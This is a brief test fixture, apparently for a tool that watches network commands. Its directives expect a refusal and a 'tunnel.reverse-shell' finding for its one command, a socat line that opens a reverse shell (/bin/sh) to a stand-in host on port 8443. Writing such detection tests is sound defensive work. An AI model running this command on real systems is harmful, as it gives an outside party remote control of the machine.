# socat carries a shell out.
#: in watched
#: needs socat
#: refuse not-listed $ID.denied.example:8443
#: finding tunnel.reverse-shell
socat TCP:$ID.denied.example:8443 EXEC:/bin/sh
